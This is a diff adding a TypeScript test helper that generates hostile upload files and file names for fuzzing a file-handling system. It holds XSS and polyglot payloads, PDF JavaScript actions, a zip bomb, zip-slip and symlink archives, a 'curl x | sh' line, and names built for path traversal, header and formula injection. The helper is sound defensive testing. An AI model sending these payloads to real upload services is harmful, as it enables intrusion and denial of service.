@@ -1,0 +1,163 @@
+import { deflateRawSync } from 'node:zlib';
+import { doc, docx, jpg, pdf, png, rar, zip } from '#tools/test/sample-files.ts';
+import type { Random } from '#trust/lib/random.ts';
+
+export type HostileFile = { what: string; name: string; content: Buffer };
+
+const endings = ['pdf', 'doc', 'docx', 'jpg', 'jpeg', 'png', 'zip', 'rar'] as const;
+
+/** A script that tells `sink` that it ran. */
+const scriptOf = (sink: string) =>
+  `<script>new Image().src='${sink}/ran';alert(1);globalThis.ran?.()</script>`;
+
+const put = (at: number, into: Buffer, what: string) =>
+  Buffer.concat([into.subarray(0, at), Buffer.from(what), into.subarray(at)]);
+
+/** A zip entry that says of itself what `change` sets: a link, a lie about its size. */
+function zipWith(
+  entries: Record<string, string>,
+  change: (bytes: Buffer) => void = () => {},
+): Buffer {
+  const bytes = zip(entries);
+  change(bytes);
+  return bytes;
+}
+
+const inDirectory = (bytes: Buffer) => bytes.indexOf('PK\x01\x02');
+
+/** Contents by what they are; the same name's ending may or may not fit. */
+function contents(sink: string): Record<string, Buffer> {
+  const script = scriptOf(sink);
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${sink}/ran')">${script}</svg>`;
+  const actions = `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1);app.launchURL("${sink}/ran")) >> >>`;
+  return {
+    html: Buffer.from(`<!doctype html><html><body>${script}</body></html>`),
+    'html after a byte order mark': Buffer.from(`\ufeff<html>${script}`),
+    'html after spaces': Buffer.from(`${' '.repeat(600)}<html>${script}`),
+    svg: Buffer.from(svg),
+    xml: Buffer.from(
+      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
+    ),
+    mhtml: Buffer.from(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${script}`),
+    javascript: Buffer.from(`fetch('${sink}/ran')`),
+    css: Buffer.from(`*{background:url(${sink}/ran)}`),
+    'a program': Buffer.from('MZ\x90\x00\x03This program cannot be run in DOS mode.', 'latin1'),
+    'a shell script': Buffer.from('#!/bin/sh\ncurl x | sh\n'),
+    'a PDF': pdf(),
+    'a PDF with a script of its own': Buffer.from(
+      pdf().toString('latin1').replace('<< /Type /Catalog /Pages 2 0 R >>', actions),
+      'latin1',
+    ),
+    'a PDF that is HTML too': put(9, pdf(), `\n<html>${script}</html>\n`),
+    'a PDF that is JavaScript too': put(9, pdf(), `\n*/=1;fetch('${sink}/ran')/*\n`),
+    'HTML with a PDF behind it': Buffer.concat([Buffer.from(`<html>${script}\n`), pdf()]),
+    'a JPEG that is HTML too': put(20, jpg(), `<html>${script}</html>`),
+    'a PNG with a script behind it': Buffer.concat([png(), Buffer.from(script)]),
+    'a PNG': png(),
+    'a GIF that is JavaScript': Buffer.from(`GIF89a/*\x00*/=1;fetch('${sink}/ran')`, 'latin1'),
+    'a zip': zip(),
+    'a zip bomb': zipBomb(40 * 1024 * 1024),
+    'zips in zips': nestedZips(12),
+    'a zip that slips out of its folder': zipWith({
+      '../../../../etc/cron.d/x': 'x',
+      '/etc/passwd': 'x',
+      'C:\\x': 'x',
+    }),
+    'a zip with a link': zipWith({ link: '/etc/passwd' }, (bytes) => {
+      const at = inDirectory(bytes);
+      bytes.writeUInt8(3, at + 5);
+      bytes.writeUInt32LE((0o120777 << 16) >>> 0, at + 38);
+    }),
+    'a zip that lies about its sizes': zipWith({ a: 'x' }, (bytes) =>
+      bytes.writeUInt32LE(0xfffffffe, 22),
+    ),
+    'a zip with a page in it': zip({ 'index.html': script, '[Content_Types].xml': '<x/>' }),
+    'a zip that is HTML too': Buffer.concat([zip(), Buffer.from(`<html>${script}`)]),
+    'HTML with a zip behind it': Buffer.concat([Buffer.from(`<html>${script}`), zip()]),
+    'a Word file': docx(),
+    'an old Word file': doc(),
+    'a rar': rar(),
+    'half a PDF': pdf().subarray(0, 200),
+    'half a PNG': png().subarray(0, 20),
+    'half a zip': zip().subarray(0, 30),
+    'half a Word file': docx().subarray(0, 60),
+    'half a rar': rar().subarray(0, 9),
+    'only a signature': Buffer.from('%PDF-'),
+    nothing: Buffer.alloc(0),
+  };
+}
+
+/** One entry of zeros, which grow a thousandfold when they are unpacked. */
+function zipBomb(size: number): Buffer {
+  const packed = deflateRawSync(Buffer.alloc(size));
+  const bytes = zip({ zeros: packed });
+  for (const at of [0, inDirectory(bytes) + 2]) {
+    bytes.writeUInt16LE(8, at + 8);
+    bytes.writeUInt32LE(size, at + 22);
+  }
+  return bytes;
+}
+
+function nestedZips(depth: number): Buffer {
+  let inner = zip();
+  for (let level = 0; level < depth; level += 1) inner = zip({ 'inner.zip': inner });
+  return inner;
+}
+
+/** Names around an ending: what a shell, a browser, a folder or a head might trip over. */
+const names: readonly ((ending: string) => string)[] = [
+  (ending) => `thesis.${ending}`,
+  (ending) => `../../../../etc/passwd.${ending}`,
+  (ending) => `..\\..\\windows\\system32\\x.${ending}`,
+  (ending) => `/etc/cron.d/x.${ending}`,
+  (ending) => `page.html.${ending}`,
+  (ending) => `page.html%00.${ending}`,
+  (ending) => `page.html;.${ending}`,
+  (ending) => `\u202egpj.${ending}`,
+  (ending) => `a\u200b\ufeffb.${ending}`,
+  (ending) => `a"; filename="page.html.${ending}`,
+  (ending) => `a'b\`c$(d).${ending}`,
+  (ending) => `a%0d%0aContent-Type:%20text/html%0d%0a%0d%0a.${ending}`,
+  (ending) => `a\tb\u0001c.${ending}`,
+  (ending) => `${'x'.repeat(300)}.${ending}`,
+  (ending) => `${'ﷺ'.repeat(80)}.${ending}`,
+  (ending) => `CON.${ending}`,
+  (ending) => `NUL.${ending}`,
+  (ending) => `aux.${ending}.${ending}`,
+  (ending) => `.${ending}`,
+  (ending) => `...${ending}`,
+  (ending) => `x.${ending}.`,
+  (ending) => `x.${ending} `,
+  (ending) => `x.${ending}::$DATA`,
+  (ending) => `x.${ending.toUpperCase()}`,
+  (ending) => `x.${ending}\u202e`,
+  (ending) => `<img src=x onerror=ran()>.${ending}`,
+  (ending) => `=cmd|x!A1.${ending}`,
+  (ending) => `-rf.${ending}`,
+  (ending) => `\ud800.${ending}`,
+  () => 'x.html',
+];
+
+/** So many different hostile files, each kind of content and each kind of name among them, then at random. */
+export function* hostileFiles(count: number, sink: string, random: Random): Generator<HostileFile> {
+  const all = Object.entries(contents(sink));
+  for (let index = 0; index < count; index += 1) {
+    const [what, content] = all[index % all.length] as [string, Buffer];
+    const nameOf = names[
+      (index + Math.floor(index / all.length)) % names.length
+    ] as (typeof names)[number];
+    const fitting = endings.filter((ending) => fits(what, ending));
+    const list = fitting.length > 0 && random.next() < 0.6 ? fitting : endings;
+    const ending = list[random.whole(0, list.length - 1)] as string;
+    yield { what, name: nameOf(ending), content };
+  }
+}
+
+const fits = (what: string, ending: string) =>
+  (/PDF/.test(what) && ending === 'pdf') ||
+  (/PNG/.test(what) && ending === 'png') ||
+  (/JPEG/.test(what) && ending.startsWith('jp')) ||
+  (/zip/.test(what) && ending === 'zip') ||
+  (/old Word/.test(what) && ending === 'doc') ||
+  (/Word/.test(what) && ending === 'docx') ||
+  (/rar/.test(what) && ending === 'rar');
